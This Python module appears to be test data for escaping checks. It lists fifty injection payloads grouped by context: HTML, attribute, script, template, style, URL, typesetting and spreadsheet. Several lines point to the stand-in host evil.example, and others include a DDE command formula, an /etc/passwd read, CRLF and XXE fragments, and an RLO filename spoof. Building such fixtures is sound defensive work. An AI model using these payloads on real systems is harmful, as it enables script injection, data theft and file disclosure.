"""Texts that would run somewhere if they were not kept as text: fifty, by where they would."""

from __future__ import annotations

_BY_CONTEXT: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>window.__ran=1</script>", "<img src=x onerror=window.__ran=1>", "<svg onload=window.__ran=1>",
        "<svg><script>window.__ran=1</script></svg>", "<body onload=window.__ran=1>", "<iframe srcdoc='<script>top.__ran=1</script>'>",
        "<details open ontoggle=window.__ran=1>",
        "<input autofocus onfocus=window.__ran=1>",
        "<math><mtext></p><img src onerror=window.__ran=1>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<object data=//evil.example/x>",
        "<form action=//evil.example/><button>x</button>", "<noscript><p title=\"</noscript><img src=x onerror=window.__ran=1>\">",
                "<video><source onerror=window.__ran=1></video>", "</textarea><script>window.__ran=1</script>",
        "</title><script>window.__ran=1</script>",
    ),
    "attribute": (
        "\" onmouseover=\"window.__ran=1", "' autofocus onfocus='window.__ran=1", "\"><script>window.__ran=1</script>",
        "x hx-on:load=window.__ran=1 ", "\" hx-get=\"//evil.example/\" hx-trigger=\"load", "\" style=\"background:url(//evil.example/)",
    ),
    "script": (
        "';window.__ran=1;//", "\";window.__ran=1;//", "</script><script>window.__ran=1</script>", "`${window.__ran=1}`",
        "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e", "<!--<script>window.__ran=1", "]]><script>window.__ran=1</script>",
    ),
    "template": ("{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% raw %}{{ 1 }}", "${7*7}", "#{7*7}", "{0.__class__}"),
    "style": ("</style><script>window.__ran=1</script>", "x}*{background:url(//evil.example/)}", "@import '//evil.example/x.css';"),
    "address": ("javascript:window.__ran=1", "data:text/html,<script>window.__ran=1</script>", "//evil.example/%0d%0aX-Ran: 1"),
    "typeset": ("#eval(\"1+1\")", "#read(\"/etc/passwd\")", "$ sum $ *b* _i_ @ref <l>"),
    "sheet": ("=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "＝HYPERLINK(\"//evil.example/\")"),
}  # fmt: skip
PAYLOADS = tuple(text for texts in _BY_CONTEXT.values() for text in texts)
"""All of them."""
SLICE = tuple(text for texts in _BY_CONTEXT.values() for text in texts[:2])
"""The first two of each."""
BESIDE = (
    "\t=1+1",
    "a\r\nX-Ran: 1",
    "2026-01-01 INFO log\nforged line",
    "\u202egnp.exe\u2066",
    'a"b;c.pdf',
    "]]>&xxe;<!ENTITY x>",
)
"""What has marks that a name may not have: for free texts alone."""
